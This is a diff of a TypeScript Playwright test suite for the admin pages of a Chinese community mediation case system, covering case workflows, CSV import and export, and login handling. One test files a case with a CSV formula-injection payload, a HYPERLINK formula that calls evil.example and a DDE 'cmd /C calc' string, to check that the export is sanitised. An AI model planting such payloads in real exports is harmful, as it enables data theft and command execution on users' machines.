@@ -7,52 +7,28 @@
  * Screenshots go to test-artifacts/.
  */
 import { parse } from 'csv-parse/sync';
-import type { Browser, Locator, Page } from 'playwright-core';
-import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
-import type { LocalStack } from '../../infra/local/stack.ts';
+import type { Locator, Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { browserSuite } from '../support/browser-suite.ts';
 import { Outbox } from '../../shared/store/outbox.ts';
-import { chromiumAvailable, downloadBy, launch, openPage, screenshot, signIn, type WatchedPage } from '../support/browser.ts';
-import { call, login, startTestStack, waitFor } from '../support/stack.ts';
+import { chromiumAvailable, downloadBy, screenshot, signIn } from '../support/browser.ts';
+import { call, login, waitFor } from '../support/stack.ts';
 
 const CHINA_DAY = (offsetDays: number) => new Date(Date.now() + 8 * 3_600_000 + offsetDays * 86_400_000).toISOString().slice(0, 10);
 
 describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
-  let stack: LocalStack;
-  let browser: Browser;
-  let opened: WatchedPage[] = [];
-  /** Console messages a test provokes on purpose (the browser logs every 4xx it sees). */
-  let expected: RegExp[] = [];
-
-  beforeAll(async () => {
-    [stack, browser] = await Promise.all([startTestStack({ workers: true, seedCases: true }), launch()]);
-  });
-  afterAll(async () => {
-    await browser?.close();
-    await stack?.stop();
-  });
-  afterEach(async () => {
-    const errors = opened.flatMap((p) => p.errors).filter((e) => !expected.some((allowed) => allowed.test(e)));
-    await Promise.all(opened.map((p) => p.close()));
-    opened = [];
-    expected = [];
-    expect(errors, 'console errors').toEqual([]);
-  });
-
-  async function page(options?: Parameters<typeof openPage>[1]): Promise<Page> {
-    const watched = await openPage(browser, options);
-    opened.push(watched);
-    return watched.page;
-  }
+  const suite = browserSuite({ workers: true, seedCases: true });
+  const page = suite.page;
 
   async function fileCase(body: Record<string, unknown>) {
-    const reply = await call(stack, 'POST', '/v1/cases', { body: { source: 'hotline', center: 'mediation', ...body } });
+    const reply = await call(suite.stack, 'POST', '/v1/cases', { body: { source: 'hotline', center: 'mediation', ...body } });
     expect(reply.status, reply.text).toBe(201);
     return reply.body as { id: string; trackingNo: string; version: number };
   }
 
   async function act(token: string, id: string, action: Record<string, unknown>) {
-    const current = await call(stack, 'GET', `/v1/cases/${id}`, { headers: { authorization: `Bearer ${token}` } });
-    const reply = await call(stack, 'POST', `/v1/cases/${id}/actions`, {
+    const current = await call(suite.stack, 'GET', `/v1/cases/${id}`, { headers: { authorization: `Bearer ${token}` } });
+    const reply = await call(suite.stack, 'POST', `/v1/cases/${id}/actions`, {
       body: { expectedVersion: current.body.version, ...action },
       headers: { authorization: `Bearer ${token}` },
     });
@@ -74,11 +50,11 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
       ],
     });
     const p = await page();
-    await p.goto(`${stack.url}/admin/`);
+    await p.goto(`${suite.stack.url}/admin/`);
     await p.getByRole('heading', { name: '矛调通 · 调解工作台' }).waitFor();
     await screenshot(p, 'login');
 
-    await signIn(p, stack.url, 'building-mediator', stack.password);
+    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
     const row = p.locator('table.cases tr', { hasText: filed.trackingNo });
     await expect.poll(() => row.count()).toBe(1);
     await expect.poll(() => row.innerText()).toContain('待签收');
@@ -132,14 +108,14 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await expect.poll(() => p.locator('ol.timeline').innerText()).toContain('办结（已化解）');
     await screenshot(p, 'case-detail');
 
-    const stored = await call(stack, 'GET', `/v1/cases/${filed.id}`);
+    const stored = await call(suite.stack, 'GET', `/v1/cases/${filed.id}`);
     expect(stored.body).toMatchObject({ status: 'resolved', resolution: { outcome: 'resolved' }, agreement: { terms: [expect.any(String), expect.any(String)] } });
     // A whole journey through a dozen screens: ~20 s alone, past 30 s when the fault shards share the machine.
   }, 90_000);
 
   it('the community mediator finds a case escalated from another building, in the queue and the subtree view, and opens it', async () => {
-    const admin = await login(stack, 'admin');
-    const created = await call(stack, 'POST', '/v1/users', {
+    const admin = await login(suite.stack, 'admin');
+    const created = await call(suite.stack, 'POST', '/v1/users', {
       body: { username: 'yg2-liaison', displayName: '2栋联户长', role: 'liaison', unitId: 'hp-xf-yg-2', password: 'building2-pass' },
       headers: { authorization: `Bearer ${admin}` },
     });
@@ -150,15 +126,15 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
       reporter: { name: '孙女士', phone: '13912340002' },
       location: { unitId: 'hp-xf-yg-2' },
     });
-    const levelOf = async (level: string) => ((await call(stack, 'GET', `/v1/cases/${filed.id}`)).body.level === level ? true : undefined);
-    const liaison = await call(stack, 'POST', '/v1/auth/login', { body: { username: 'yg2-liaison', password: 'building2-pass' }, key: null });
+    const levelOf = async (level: string) => ((await call(suite.stack, 'GET', `/v1/cases/${filed.id}`)).body.level === level ? true : undefined);
+    const liaison = await call(suite.stack, 'POST', '/v1/auth/login', { body: { username: 'yg2-liaison', password: 'building2-pass' }, key: null });
     await act(liaison.body.token, filed.id, { type: 'escalate', reason: '涉及多户，楼栋无法协调' });
     await waitFor('the compound to receive it', () => levelOf('compound'));
-    await act(await login(stack, 'compound-mediator'), filed.id, { type: 'escalate', reason: '需社区调委会出面' });
+    await act(await login(suite.stack, 'compound-mediator'), filed.id, { type: 'escalate', reason: '需社区调委会出面' });
     await waitFor('the community to receive it', () => levelOf('community'));
 
     const p = await page();
-    await signIn(p, stack.url, 'community-mediator', stack.password);
+    await signIn(p, suite.stack.url, 'community-mediator', suite.stack.password);
     await expect.poll(() => p.locator('table.cases').innerText()).toContain(filed.trackingNo);
 
     await p.getByRole('link', { name: '辖区案件' }).click();
@@ -185,7 +161,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
 
   it('the dashboard draws its charts from GET /v1/stats and shows the rates with their fractions', async () => {
     const p = await page();
-    await signIn(p, stack.url, 'township-mediator', stack.password);
+    await signIn(p, suite.stack.url, 'township-mediator', suite.stack.password);
     const statsReply = p.waitForResponse((r) => r.url().includes('/v1/stats'));
     await p.getByRole('link', { name: '统计' }).click();
     const stats = await (await statsReply).json();
@@ -240,7 +216,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     }
     const actions = (p: Page) => p.locator('details.action').evaluateAll((els) => els.map((e) => e.className.replace('action action-', '')));
     const open = async (p: Page, id: string) => {
-      const target = `${stack.url}/admin/#/case/${id}`;
+      const target = `${suite.stack.url}/admin/#/case/${id}`;
       // The same hash again is no navigation: reload to see what the others did.
       await (p.url() === target ? p.reload() : p.goto(target));
       await p.locator('ol.timeline').waitFor();
@@ -248,7 +224,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
 
     const a = await fileCase({ center: 'voice', description: '小区健身器材损坏，两户为维修费用争执。', reporter: { phone: '13912340010' }, location: { unitId: 'hp-xf-yg' } });
     const compound = await page();
-    await signIn(compound, stack.url, 'compound-mediator', stack.password);
+    await signIn(compound, suite.stack.url, 'compound-mediator', suite.stack.password);
     await open(compound, a.id);
     expect(await actions(compound)).toEqual(['accept', 'note', 'contact', 'dispatch', 'escalate', 'extend_request', 'add_party', 'schedule_session', 'record_agreement', 'merge', 'withdraw', 'reclassify', 'locate', 'flag_risk']);
     await perform(compound, 'accept');
@@ -280,7 +256,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await perform(compound, 'reclassify', (f) => f.getByLabel('改为').selectOption({ label: '民事调解' }));
     await perform(compound, 'flag_risk', (f) => f.getByLabel('风险等级').selectOption({ label: '黄色' }));
     await perform(compound, 'locate', (f) => f.getByLabel('详细地址').fill('阳光小区中心花园'));
-    const due = (await call(stack, 'GET', `/v1/cases/${a.id}`)).body.resolveDueAt as string;
+    const due = (await call(suite.stack, 'GET', `/v1/cases/${a.id}`)).body.resolveDueAt as string;
     const until = new Date(Date.parse(due) + 86_400_000 + 8 * 3_600_000).toISOString().slice(0, 16);
     await perform(compound, 'extend_request', async (f) => {
       await f.getByLabel('延期至').fill(until);
@@ -289,7 +265,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(await actions(compound)).not.toContain('extend_decide');
 
     const community = await page();
-    await signIn(community, stack.url, 'community-mediator', stack.password);
+    await signIn(community, suite.stack.url, 'community-mediator', suite.stack.password);
     await open(community, a.id);
     expect(await actions(community)).toEqual(['note', 'contact', 'extend_decide', 'flag_risk']);
     await perform(community, 'extend_decide', (f) => f.getByLabel('批准', { exact: true }).check());
@@ -315,7 +291,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await open(compound, b.id);
     await perform(compound, 'dispatch', (f) => f.getByLabel('派往').selectOption({ label: '和平街道 幸福社区 阳光小区 1栋' }));
     const building = await page();
-    await signIn(building, stack.url, 'building-mediator', stack.password);
+    await signIn(building, suite.stack.url, 'building-mediator', suite.stack.password);
     await open(building, b.id);
     await perform(building, 'return', (f) => f.getByLabel('退回原因（如不属于本单位管辖）').fill('不在本栋'));
     await open(compound, b.id);
@@ -325,7 +301,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await open(community, c.id);
     await perform(community, 'dispatch', (f) => f.getByLabel('派往').selectOption({ label: '刘洋（党员志愿者）' }));
     const volunteer = await page();
-    await signIn(volunteer, stack.url, 'volunteer', stack.password);
+    await signIn(volunteer, suite.stack.url, 'volunteer', suite.stack.password);
     await open(volunteer, c.id);
     expect(await actions(volunteer)).toEqual(['accept', 'decline']);
     await perform(volunteer, 'decline', (f) => f.getByLabel('谢绝原因').fill('本周不在本地'));
@@ -343,21 +319,21 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await perform(community, 'withdraw', (f) => f.getByLabel('撤回原因（如群众主动撤回）').fill('群众来电撤回'));
 
     // Read as the township's officer: the hotline that filed them is not shown the minutes.
-    const officer = { headers: { authorization: `Bearer ${await login(stack, 'township-mediator')}` } };
-    const states = await Promise.all([a, b, c, d, e].map(async (x) => (await call(stack, 'GET', `/v1/cases/${x.id}`, officer)).body));
+    const officer = { headers: { authorization: `Bearer ${await login(suite.stack, 'township-mediator')}` } };
+    const states = await Promise.all([a, b, c, d, e].map(async (x) => (await call(suite.stack, 'GET', `/v1/cases/${x.id}`, officer)).body));
     expect(states.map((s) => s.status)).toEqual(['pending', 'pending', 'pending', 'merged', 'withdrawn']);
     expect(states[0]).toMatchObject({ center: 'mediation', risk: { level: 'yellow' }, location: { address: '阳光小区中心花园' } });
     // Reopened: no current satisfaction until the next resolution is followed up (the 回访 still counts in the figures).
     expect(states[0].followUp).toBeUndefined();
     expect(states[0].sessions[0].minutes).toContain('共同承担');
     await waitFor('the escalated case to reach the community', async () =>
-      (await call(stack, 'GET', `/v1/cases/${b.id}`)).body.unitId === 'hp-xf' ? true : undefined,
+      (await call(suite.stack, 'GET', `/v1/cases/${b.id}`)).body.unitId === 'hp-xf' ? true : undefined,
     );
   }, 90_000);
 
   it('on a 375-pixel phone the queue is a stack of cards with nothing to scroll sideways', async () => {
     const p = await page({ viewport: { width: 375, height: 812 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
-    await signIn(p, stack.url, 'building-mediator', stack.password);
+    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
     await p.locator('table.cases tbody tr').first().waitFor();
     expect(await p.locator('table.cases tbody tr').first().evaluate((tr) => getComputedStyle(tr).display)).toBe('block');
     expect(await p.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(375);
@@ -371,12 +347,12 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
   it('says so in Chinese when someone else changed the case, and shows the new state', async () => {
     const filed = await fileCase({ description: '小区门口占道经营，影响通行。', reporter: { phone: '13912340003' }, location: { unitId: 'hp-xf-yg-1' }, center: 'voice' });
     const p = await page();
-    await signIn(p, stack.url, 'building-mediator', stack.password);
-    await p.goto(`${stack.url}/admin/#/case/${filed.id}`);
+    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
+    await p.goto(`${suite.stack.url}/admin/#/case/${filed.id}`);
     await p.locator('details.action-accept > summary').click();
-    await act(await login(stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'internal', text: '同事已电话联系' });
+    await act(await login(suite.stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'internal', text: '同事已电话联系' });
 
-    expected = [/status of 409/];
+    suite.allowConsoleErrors(/status of 409/);
     await p.getByRole('button', { name: '确认签收' }).click();
     await p.getByRole('alert').filter({ hasText: '该案件刚被他人修改' }).waitFor();
     await expect.poll(() => p.locator('ol.timeline').innerText()).toContain('内部备注：同事已电话联系');
@@ -387,8 +363,8 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
   it('a 签收 whose answer is lost on the way back is retried with the same Idempotency-Key and applied once', async () => {
     const filed = await fileCase({ description: '楼道堆放杂物，影响消防通道。', reporter: { phone: '13912340005' }, location: { unitId: 'hp-xf-yg-1' }, center: 'voice' });
     const p = await page();
-    await signIn(p, stack.url, 'building-mediator', stack.password);
-    await p.goto(`${stack.url}/admin/#/case/${filed.id}`);
+    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
+    await p.goto(`${suite.stack.url}/admin/#/case/${filed.id}`);
     const keys: string[] = [];
     let lost = false;
     // The first submit reaches the server and is applied, but its answer never reaches the page.
@@ -399,32 +375,32 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
       await route.fetch();
       await route.abort('connectionreset');
     });
-    expected = [/ERR_CONNECTION_RESET|net::/];
+    suite.allowConsoleErrors(/ERR_CONNECTION_RESET|net::/);
     await p.locator('details.action-accept > summary').click();
     await p.getByRole('button', { name: '确认签收' }).click();
     await p.getByText('已完成：签收').waitFor();
     expect(keys).toHaveLength(2);
     expect(keys[0]).toMatch(/^[\x21-\x7e]{1,128}$/);
     expect(keys[1]).toBe(keys[0]);
-    const events = await call(stack, 'GET', `/v1/cases/${filed.id}/events`);
+    const events = await call(suite.stack, 'GET', `/v1/cases/${filed.id}/events`);
     expect(events.body.items.map((e: { type: string }) => e.type)).toEqual(['received', 'accepted']);
   });
 
   it('asks to sign in again, over the page, when the token is refused', async () => {
     const p = await page();
-    await signIn(p, stack.url, 'building-mediator', stack.password);
+    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
     await p.evaluate(() => {
       const key = 'maodiaotong.session';
       const session = JSON.parse(localStorage.getItem(key) ?? '{}') as { expiresAt: string };
       localStorage.setItem(key, JSON.stringify({ ...session, token: 'not-a-token' }));
     });
-    expected = [/status of 401/];
+    suite.allowConsoleErrors(/status of 401/);
     await p.getByRole('button', { name: '刷新' }).click();
     const dialog = p.getByRole('dialog', { name: '请重新登录' });
     await dialog.getByText('登录已过期，请重新登录').waitFor();
     expect(await dialog.getByLabel('用户名').inputValue()).toBe('building-mediator');
     expect(await p.evaluate(() => localStorage.getItem('maodiaotong.session'))).toBeNull();
-    await dialog.getByLabel('密码').fill(stack.password);
+    await dialog.getByLabel('密码').fill(suite.stack.password);
     await dialog.getByRole('button', { name: '登录' }).click();
     await dialog.waitFor({ state: 'detached' });
     await p.getByRole('heading', { name: '我的待办' }).waitFor();
@@ -432,7 +408,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
 
   it('an admin creates an account for a new 联户长, moves it to another building and disables it', async () => {
     const p = await page();
-    await signIn(p, stack.url, 'admin', stack.password);
+    await signIn(p, suite.stack.url, 'admin', suite.stack.password);
     await p.getByRole('link', { name: '管理' }).click();
     await p.getByRole('heading', { name: '管理' }).waitFor();
 
@@ -449,11 +425,11 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const row = p.locator('tr[data-username="liaison-yg2"]');
     await expect.poll(() => row.innerText()).toContain('阳光小区 2栋');
     expect(await row.innerText()).toContain('13800000002');
-    const signInAs = (password: string) => call(stack, 'POST', '/v1/auth/login', { body: { username: 'liaison-yg2', password }, key: null });
+    const signInAs = (password: string) => call(suite.stack, 'POST', '/v1/auth/login', { body: { username: 'liaison-yg2', password }, key: null });
     expect((await signInAs('sun-hong-2026')).status).toBe(200);
 
     // The form stays open, emptied, for the next account.
-    expected = [/status of 409/];
+    suite.allowConsoleErrors(/status of 409/);
     expect(await form.getByLabel('用户名').inputValue()).toBe('');
     await form.getByLabel('用户名').fill('liaison-yg2');
     await form.getByLabel('姓名').fill('重名');
@@ -485,19 +461,19 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const own = p.locator('tr[data-username="admin"]');
     await own.locator('details > summary').click();
     expect(await own.getByRole('button', { name: '停用账号' }).count()).toBe(0);
-    const stored = (await call(stack, 'GET', '/v1/users', { headers: { authorization: `Bearer ${await login(stack, 'admin')}` } })).body.items;
+    const stored = (await call(suite.stack, 'GET', '/v1/users', { headers: { authorization: `Bearer ${await login(suite.stack, 'admin')}` } })).body.items;
     expect(stored.find((a: { username: string }) => a.username === 'liaison-yg2')).toMatchObject({ unitId: 'hp-xf-yg-3', role: 'liaison', disabled: true });
   });
 
   it('an admin imports a building from a CSV that Excel saved as GBK, exports the units, and a bad CSV changes nothing', async () => {
-    const admin = await login(stack, 'admin');
+    const admin = await login(suite.stack, 'admin');
     const unitIds = async () =>
-      ((await call(stack, 'GET', '/v1/units', { headers: { authorization: `Bearer ${admin}` } })).body.items as { id: string }[]).map((u) => u.id);
+      ((await call(suite.stack, 'GET', '/v1/units', { headers: { authorization: `Bearer ${admin}` } })).body.items as { id: string }[]).map((u) => u.id);
     const before = await unitIds();
 
     const p = await page();
-    await signIn(p, stack.url, 'admin', stack.password);
-    await p.goto(`${stack.url}/admin/#/manage/units`);
+    await signIn(p, suite.stack.url, 'admin', suite.stack.password);
+    await p.goto(`${suite.stack.url}/admin/#/manage/units`);
     await p.locator('tr[data-unit="hp-xf-yg-1"]').waitFor();
     await p.locator('details.unit-import > summary').click();
     // "id,name,level,parentId,contactName,contactPhone / hp-xf-yg-4,4栋,building,hp-xf-yg,联户长 孙红,13800000004" in GBK.
@@ -523,7 +499,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     expect(exported).toContain('\nhp-xf-yg-4,4栋,building,hp-xf-yg,,联户长 孙红,13800000004\n');
     expect(exported).toContain('\nhp,和平街道,township,zj,,街道矛调中心,02787000000\n');
 
-    expected = [/status of 400/];
+    suite.allowConsoleErrors(/status of 400/);
     await p.getByLabel('或粘贴内容').fill('id,name,level,parentId\nhp-xf-yg-5,5栋,building,no-such-compound\n');
     await p.getByRole('button', { name: '检查并预览' }).click();
     const alert = p.locator('details.unit-import').getByRole('alert');
@@ -540,8 +516,8 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
   it('a 矛调中心 officer sees who viewed a reporter\'s details; a 联户长 has no such panel', async () => {
     const filed = await fileCase({ description: '邻居装修噪音扰民，晚上十点后仍施工。', reporter: { name: '钱女士', phone: '13912340021' }, location: { unitId: 'hp-xf-yg-1' } });
     const liaison = await page();
-    await signIn(liaison, stack.url, 'building-mediator', stack.password);
-    await liaison.goto(`${stack.url}/admin/#/case/${filed.id}`);
+    await signIn(liaison, suite.stack.url, 'building-mediator', suite.stack.password);
+    await liaison.goto(`${suite.stack.url}/admin/#/case/${filed.id}`);
     await liaison.locator('ol.timeline').waitFor();
     expect(await liaison.locator('details.audit-panel').count()).toBe(0);
     // Masked until 显示: only that is recorded.
@@ -550,8 +526,8 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     await expect.poll(() => liaison.locator('.case-grid').innerText()).toContain('钱女士，13912340021');
 
     const p = await page();
-    await signIn(p, stack.url, 'township-mediator', stack.password);
-    await p.goto(`${stack.url}/admin/#/case/${filed.id}`);
+    await signIn(p, suite.stack.url, 'township-mediator', suite.stack.password);
+    await p.goto(`${suite.stack.url}/admin/#/case/${filed.id}`);
     await p.locator('details.audit-panel > summary').click();
     const trail = p.locator('ol.audit');
     await expect.poll(() => trail.locator('li').count()).toBe(1);
@@ -571,7 +547,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const first = await fileCase({ title: '停车位被长期占用', description: '小区停车位被长期占用。', reporter: { name: '冯先生', phone: '13912340031' }, location: { unitId: 'hp-xf-yg-2' } });
     const second = await fileCase({ center: 'welfare', description: '申请临时救助。', reporter: { phone: '13912340031' }, location: { unitId: 'hp-hx-jy-1' } });
     const p = await page();
-    await signIn(p, stack.url, 'community-mediator', stack.password);
+    await signIn(p, suite.stack.url, 'community-mediator', suite.stack.password);
     const box = p.getByRole('searchbox', { name: '按编号、电话、工单号或关键词查找案件' });
 
     await box.fill(first.trackingNo.toLowerCase());
@@ -602,22 +578,22 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const formula = await fileCase({ title: '=HYPERLINK("http://evil.example/?x="&A1,"详情")', description: '@SUM(1+1)*cmd|\' /C calc\'!A0', location: { unitId: 'hp-xf-cy-1' } });
     // One resolved, so the sheet has a 办结时间 to check.
     const done = await fileCase({ title: '楼道堆物', description: '楼道堆放杂物。', location: { unitId: 'hp-xf-yg-1' } });
-    const liaison = await login(stack, 'building-mediator');
+    const liaison = await login(suite.stack, 'building-mediator');
     await act(liaison, done.id, { type: 'accept' });
     await act(liaison, done.id, { type: 'resolve', outcome: 'resolved', summary: '已清理。' });
     const p = await page();
-    await signIn(p, stack.url, 'community-mediator', stack.password);
-    await p.goto(`${stack.url}/admin/#/cases?center=mediation`);
+    await signIn(p, suite.stack.url, 'community-mediator', suite.stack.password);
+    await p.goto(`${suite.stack.url}/admin/#/cases?center=mediation`);
     await p.locator('table.cases tbody tr').first().waitFor();
     const { name, text } = await downloadBy(p, p.getByRole('button', { name: '导出 CSV' }));
     expect(name).toMatch(/^辖区案件-\d{4}-\d{2}-\d{2}\.csv$/);
     const lines = text.replace(/^\uFEFF/, '').trimEnd().split('\n');
     expect(lines[0]).toBe('编号,12345工单号,受理时间,来源,中心,诉求,内容摘要,发生单位,当前单位,当前层级,状态,期限,超时,上报次数,风险,办结时间,办结结果,回访满意度');
-    const token = await login(stack, 'community-mediator');
+    const token = await login(suite.stack, 'community-mediator');
     let total = 0;
     let cursor: string | null = null;
     do {
-      const reply: { body: { items: unknown[]; cursor: string | null } } = await call(stack, 'GET', `/v1/cases?scope=subtree&center=mediation&limit=200${cursor ? `&cursor=${cursor}` : ''}`, { headers: { authorization: `Bearer ${token}` } });
+      const reply: { body: { items: unknown[]; cursor: string | null } } = await call(suite.stack, 'GET', `/v1/cases?scope=subtree&center=mediation&limit=200${cursor ? `&cursor=${cursor}` : ''}`, { headers: { authorization: `Bearer ${token}` } });
       total += reply.body.items.length;
       cursor = reply.body.cursor;
     } while (cursor);
@@ -625,7 +601,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
     const row = lines.find((l) => l.startsWith(`${filed.trackingNo},`))!;
     expect(row).toContain(',12345 热线,民事调解,宠物噪音扰邻,邻居家的狗夜间吠叫。,和平街道 幸福社区 翠苑小区 1栋,和平街道 幸福社区 翠苑小区 1栋,楼栋,待签收,');
     // Dates a spreadsheet reads and sorts, in China time; the hotline's work-order number beside ours.
-    const state = (await call(stack, 'GET', `/v1/cases/${filed.id}`)).body;
+    const state = (await call(suite.stack, 'GET', `/v1/cases/${filed.id}`)).body;
     const china = (iso: string) => new Date(Date.parse(iso) + 8 * 3_600_000).toISOString().slice(0, 16).replace('T', ' ');
     expect(row.startsWith(`${filed.trackingNo},WO-CSV-1,${china(state.createdAt)},`)).toBe(true);
     expect(row).toMatch(/,\d{4}-\d{2}-\d{2} \d{2}:\d{2},/);
@@ -647,20 +623,20 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
   });
 
   it('a resident follows the link in the receipt, enters the 提取码 and sees the progress on a phone', async () => {
-    const filed = (await call(stack, 'POST', '/v1/cases', {
+    const filed = (await call(suite.stack, 'POST', '/v1/cases', {
       body: { source: 'hotline', center: 'welfare', title: '路灯不亮', description: '小区南门路灯坏了一周。', reporter: { name: '褚先生', phone: '13912340051' }, location: { unitId: 'hp-xf-yg-1' } },
     })).body as { id: string; trackingNo: string; trackingCode: string };
-    await act(await login(stack, 'building-mediator'), filed.id, { type: 'accept' });
-    await act(await login(stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'public', text: '已联系物业，明天维修。' });
-    await act(await login(stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'internal', text: '物业经理电话 139xxxx' });
+    await act(await login(suite.stack, 'building-mediator'), filed.id, { type: 'accept' });
+    await act(await login(suite.stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'public', text: '已联系物业，明天维修。' });
+    await act(await login(suite.stack, 'building-mediator'), filed.id, { type: 'note', visibility: 'internal', text: '物业经理电话 139xxxx' });
 
     const p = await page({ viewport: { width: 375, height: 812 }, deviceScaleFactor: 2, isMobile: true, hasTouch: true });
-    await p.goto(`${stack.url}/track?no=${filed.trackingNo.toLowerCase()}`);
+    await p.goto(`${suite.stack.url}/track?no=${filed.trackingNo.toLowerCase()}`);
     await p.getByRole('heading', { name: '诉求办理进度查询' }).waitFor();
-    expect(p.url()).toBe(`${stack.url}/track/?no=${filed.trackingNo.toLowerCase()}`);
+    expect(p.url()).toBe(`${suite.stack.url}/track/?no=${filed.trackingNo.toLowerCase()}`);
     expect(await p.getByLabel('编号').inputValue()).toBe(filed.trackingNo.toLowerCase());
 
-    expected = [/status of 404/];
+    suite.allowConsoleErrors(/status of 404/);
     await p.getByLabel('提取码').fill(filed.trackingCode === '000000' ? '111111' : '000000');
     await p.getByRole('button', { name: '查询' }).click();
     await p.getByRole('alert').filter({ hasText: '没有找到该编号，或提取码不正确' }).waitFor();
@@ -681,14 +657,14 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
   it('an admin reads the day\'s notifications, and finds at once the one no channel could deliver', async () => {
     const filed = await fileCase({ title: '楼道堆物', description: '楼道里堆满杂物，存在消防隐患。', reporter: { phone: '13912340061' }, location: { unitId: 'hp-xf-yg-1' } });
     // As the notifier records a WeChat message after WeChat's 48-hour window, for a resident with no phone.
-    const outbox = new Outbox(stack.dynamodb, stack.tableName);
+    const outbox = new Outbox(suite.stack.dynamodb, suite.stack.tableName);
     const entry = { at: new Date().toISOString(), caseId: filed.id, seq: 9, n: 0, topic: 'resolved', channel: 'wechat', provider: 'wechat', to: 'oNoPhone', recipientName: '群众', text: `【矛调通】您的诉求 ${filed.trackingNo} 已办结。` };
     expect(await outbox.claim(entry)).toBe(true);
     await outbox.markUndeliverable(entry, 'WeChat send: 45015 response out of time limit');
 
     const p = await page();
-    await signIn(p, stack.url, 'admin', stack.password);
-    await p.goto(`${stack.url}/admin/#/manage/outbox`);
+    await signIn(p, suite.stack.url, 'admin', suite.stack.password);
+    await p.goto(`${suite.stack.url}/admin/#/manage/outbox`);
     const rows = p.locator('table.outbox tbody tr');
     await expect.poll(() => rows.count()).toBeGreaterThan(1);
     await expect.poll(() => p.locator('table.outbox').innerText()).toContain(`新诉求 ${filed.trackingNo} 待签收`);
@@ -705,7 +681,7 @@ describe.skipIf(!chromiumAvailable())('admin page in Chromium', () => {
 
   it('an open queue shows a new case by itself when the window is focused again, without losing what it shows', async () => {
     const p = await page();
-    await signIn(p, stack.url, 'building-mediator', stack.password);
+    await signIn(p, suite.stack.url, 'building-mediator', suite.stack.password);
     await p.locator('table.cases tbody tr').first().waitFor();
     const before = await p.locator('table.cases tbody tr').count();
     const filed = await fileCase({ title: '电梯异响', description: '电梯运行时有异响。', reporter: { phone: '13912340071' }, location: { unitId: 'hp-xf-yg-1' } });
